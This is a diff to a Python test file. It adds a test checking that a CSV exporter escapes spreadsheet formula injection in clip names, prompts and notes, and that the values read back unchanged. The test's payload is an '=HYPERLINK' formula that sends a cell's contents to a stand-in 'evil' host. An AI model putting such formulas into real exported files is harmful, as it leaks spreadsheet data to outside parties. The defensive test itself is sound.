@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from dataclasses import replace
 from pathlib import Path
 
@@ -36,6 +37,17 @@ def test_what_is_written_is_read_back_to_the_last_bit(write, odd, tmp_path):
         wanted = row_of(clip)
         got = {name: None if pandas.isna(read[name]) else read[name] for name in COLUMNS}
         assert got == wanted
+
+
+def test_what_a_stranger_wrote_into_a_clip_is_no_formula_in_the_table(scored, tmp_path):
+    evil = '=HYPERLINK("http://evil/?"&A2,"open")'
+    clip = replace(scored[2], path=Path("@evil.mp4"), origin=replace(scored[2].origin, prompt=evil), notes=("-1+1\rx",))
+    write_csv([clip], path := tmp_path / "table.csv")
+    with path.open(newline="") as file:
+        (cells,) = csv.DictReader(file)
+    assert [cells[name][:2] for name in ("clip", "prompt", "notes")] == ["'@", "'=", "'-"]
+    (read,) = (row for _, row in read_table(path).iterrows())
+    assert [read["clip"], read["prompt"], read["notes"]] == ["@evil.mp4", evil, "-1+1\rx"]
 
 
 def test_a_row_holds_the_clips_scores_and_verdict(scored):
